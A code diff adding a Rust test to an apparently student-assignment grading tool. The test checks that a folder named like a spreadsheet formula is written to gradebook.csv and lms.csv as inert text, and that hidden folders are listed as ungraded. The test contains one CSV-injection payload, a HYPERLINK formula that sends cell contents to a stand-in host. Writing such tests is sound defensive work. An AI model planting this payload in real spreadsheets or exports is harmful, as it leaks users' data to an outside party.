@@ -528,3 +528,45 @@ fn ctrl_c_stops_cleanly_and_leaves_no_process_behind() {
         r.gradebook
     );
 }
+
+/// A student folder named like a spreadsheet formula lands as text, not a live formula,
+/// in gradebook.csv and lms.csv (OWASP CSV injection); a hidden entry of the class
+/// folder is listed as not graded, not silently left out.
+#[test]
+fn formula_names_are_neutralised_and_hidden_entries_listed() {
+    let dir = tempfile::tempdir().unwrap();
+    let class = dir.path().join("class");
+    let out = dir.path().join("out");
+    let evil = "=HYPERLINK(\"x.example\"&A1,\"click\")";
+    for name in [evil, ".hidden"] {
+        std::fs::create_dir_all(class.join(name)).unwrap();
+        std::fs::write(class.join(name).join("notes.txt"), "no code").unwrap();
+    }
+    let run = grader()
+        .args(["grade", "specs/tcp-basics.toml"])
+        .arg(&class)
+        .arg("--out")
+        .arg(&out)
+        .output()
+        .unwrap();
+    assert_eq!(run.status.code(), Some(0), "{run:?}");
+    let stdout = String::from_utf8_lossy(&run.stdout);
+    assert!(stdout.contains(".hidden (hidden)"), "{stdout}");
+    for file in ["gradebook.csv", "lms.csv"] {
+        let text = std::fs::read_to_string(out.join(file)).unwrap();
+        let mut r = csv::Reader::from_reader(text.as_bytes());
+        for row in r.records() {
+            let row = row.unwrap();
+            for cell in row.iter() {
+                assert!(
+                    !cell.starts_with(['=', '+', '-', '@']),
+                    "{file}: a live formula {cell:?}"
+                );
+            }
+            assert!(
+                row.iter().any(|c| c == format!("'{evil}")),
+                "{file}: {row:?}"
+            );
+        }
+    }
+}
